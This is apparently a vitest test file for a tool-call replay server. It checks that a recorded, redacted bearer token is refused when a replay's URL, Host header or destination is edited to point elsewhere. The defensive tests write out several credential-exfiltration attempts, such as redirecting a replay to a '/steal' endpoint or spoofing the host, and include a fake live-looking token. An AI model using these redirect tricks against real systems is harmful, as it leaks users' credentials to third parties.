import http from 'node:http';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { defineTool } from '../../executor/define-tool';
import type { Toolscope } from '../../server/create-toolscope';
import { testToolscopes } from '../../server/testing/test-toolscopes';
import { type Json, sendJson } from '../testing/call-app';
import { closeServer, listenOnLoopback } from '../testing/listen';

/**
 * A recorded secret goes back only where it came from: replay with edited arguments through the
 * HTTP app, a real SQLite file and the real executor, with `http_request` calling real servers
 * on loopback ports — the API the secret was meant for, and another one chosen by the caller.
 */
const toolscopes = testToolscopes('toolscope-replay-secrets-');

const SECRET = 'Bearer sk-live-0123456789abcdefSECRET';

/** A server that records the Authorization header of each request it gets. */
interface Listener {
  port: number;
  seen: { path: string; authorization: string | null }[];
  server: http.Server;
}

async function listener(): Promise<Listener> {
  const seen: Listener['seen'] = [];
  const server = http.createServer((request, response) => {
    seen.push({ path: request.url ?? '', authorization: request.headers.authorization ?? null });
    response.writeHead(200, { 'content-type': 'application/json' });
    response.end('{"ok":true}');
  });
  return { port: await listenOnLoopback(server), seen, server };
}

let api: Listener;
let elsewhere: Listener;
beforeEach(async () => {
  api = await listener();
  elsewhere = await listener();
});
afterEach(async () => {
  await closeServer(api.server);
  await closeServer(elsewhere.server);
});

/** What the relay tool was given, in call order. */
const relayed: { to: string; authorization: string }[] = [];

/** A tool that says nothing of where its calls go: its `to` may be anywhere. */
const relay = defineTool({
  name: 'secret_relay',
  description: 'Sends a token to the address it is given',
  sideEffect: 'none',
  sensitivePaths: ['headers.authorization'],
  inputSchema: z.object({
    to: z.string(),
    note: z.string().optional(),
    headers: z.object({ authorization: z.string() }),
  }),
  execute: ({ to, headers }) => {
    relayed.push({ to, authorization: headers.authorization });
    return { sent: true };
  },
});

function start(): Toolscope {
  return toolscopes.start(toolscopes.dataDir(), { tools: [relay] });
}

const call = (id: string, name: string, args: object) => ({
  id,
  type: 'function',
  function: { name, arguments: JSON.stringify(args) },
});

async function record(ts: Toolscope, name: string, args: object): Promise<string> {
  const answer = await sendJson(ts, 'POST', '/api/v1/tool-calls', { tool_calls: [call('c1', name, args)] });
  expect(answer.status).toBe(200);
  expect(answer.json.results[0].status).toBe('succeeded');
  return answer.json.results[0].trace_id;
}

const replay = (ts: Toolscope, id: string, body?: object) => sendJson(ts, 'POST', `/api/v1/traces/${id}/replay`, body);

/** The arguments as the trace shows them: secrets masked. */
async function shown(ts: Toolscope, id: string): Promise<Json> {
  return (await sendJson(ts, 'GET', `/api/v1/traces/${id}`)).json.arguments;
}

function expectRefused(answer: { status: number; json: Json }, field: string) {
  expect(answer.status).toBe(400);
  expect(answer.json.error.code).toBe('SECRET_DESTINATION_CHANGED');
  expect(answer.json.error.message).toMatch(new RegExp(`^arguments\\.${field.replace(/\./g, '\\.')}: `));
  expect(answer.json.error.details.errors).toEqual([expect.objectContaining({ path: `arguments.${field}` })]);
}

describe('replay of http_request with edited arguments', () => {
  it('never sends the recorded Authorization to another origin: refused, naming the field', async () => {
    const ts = start();
    const id = await record(ts, 'http_request', {
      url: `http://127.0.0.1:${api.port}/v1/me`,
      headers: { authorization: SECRET },
    });
    expect(api.seen).toEqual([{ path: '/v1/me', authorization: SECRET }]);
    const args = await shown(ts, id);
    expect(args.headers.authorization).toBe('[REDACTED]');

    // The attack: the mask left in place, the URL pointed at a server of the caller's choosing.
    const attack = await replay(ts, id, { arguments: { ...args, url: `http://127.0.0.1:${elsewhere.port}/steal` } });
    expectRefused(attack, 'headers.authorization');
    expect(attack.json.error.message).toContain(`http://127.0.0.1:${elsewhere.port}`);
    // Another spelling of the host, a Host header, or arguments the tool refuses are no way around it.
    for (const edit of [
      { ...args, url: `http://localhost:${api.port}/v1/me` },
      { ...args, headers: { ...args.headers, host: 'elsewhere.example' } },
      { ...args, url: `http://127.0.0.1:${elsewhere.port}/steal`, method: 'FETCH' },
      { ...args, url: 'ftp://127.0.0.1/' },
    ]) {
      expectRefused(await replay(ts, id, { arguments: edit }), 'headers.authorization');
    }
    expect(elsewhere.seen).toEqual([]);
    expect(api.seen).toHaveLength(1);
    // Nothing was recorded for a refused replay.
    expect((await sendJson(ts, 'GET', '/api/v1/traces')).json.items).toHaveLength(1);
  });

  it('keeps the secret for the same origin, and sends a secret typed anew anywhere allowed', async () => {
    const ts = start();
    const id = await record(ts, 'http_request', {
      url: `http://127.0.0.1:${api.port}/v1/me`,
      headers: { authorization: SECRET },
    });
    const args = await shown(ts, id);
    const samePlace = await replay(ts, id, {
      arguments: { ...args, url: `http://127.0.0.1:${api.port}/v1/other?page=2` },
    });
    expect(samePlace.status).toBe(200);
    expect(samePlace.json.status).toBe('succeeded');
    expect(api.seen.at(-1)).toEqual({ path: '/v1/other?page=2', authorization: SECRET });

    // A replay of that replay is held to the same origin: the secret's, not the edit's.
    const chained = await replay(ts, samePlace.json.trace_id, {
      arguments: { ...(await shown(ts, samePlace.json.trace_id)), url: `http://127.0.0.1:${elsewhere.port}/` },
    });
    expectRefused(chained, 'headers.authorization');

    const typed = await replay(ts, id, {
      arguments: { url: `http://127.0.0.1:${elsewhere.port}/mine`, headers: { authorization: 'Bearer typed-anew' } },
    });
    expect(typed.json.status).toBe('succeeded');
    expect(elsewhere.seen).toEqual([{ path: '/mine', authorization: 'Bearer typed-anew' }]);
    // Without edits, the recorded call goes where it went.
    expect((await replay(ts, id)).json.status).toBe('succeeded');
    expect(api.seen.at(-1)).toEqual({ path: '/v1/me', authorization: SECRET });
  });
});

describe('replay of a tool that declares no destination', () => {
  it('keeps a recorded secret only when nothing else is edited', async () => {
    relayed.length = 0;
    const ts = start();
    const id = await record(ts, 'secret_relay', { to: 'api.example', headers: { authorization: SECRET } });
    const args = await shown(ts, id);

    expectRefused(await replay(ts, id, { arguments: { ...args, to: 'elsewhere.example' } }), 'headers.authorization');
    expectRefused(await replay(ts, id, { arguments: { ...args, note: 'only a note' } }), 'headers.authorization');
    expect(relayed).toHaveLength(1);

    expect((await replay(ts, id, { arguments: args })).json.status).toBe('succeeded');
    expect(relayed.at(-1)).toEqual({ to: 'api.example', authorization: SECRET });
    const typed = await replay(ts, id, {
      arguments: { to: 'elsewhere.example', headers: { authorization: 'Bearer typed-anew' } },
    });
    expect(typed.json.status).toBe('succeeded');
    expect(relayed.at(-1)).toEqual({ to: 'elsewhere.example', authorization: 'Bearer typed-anew' });
  });
});
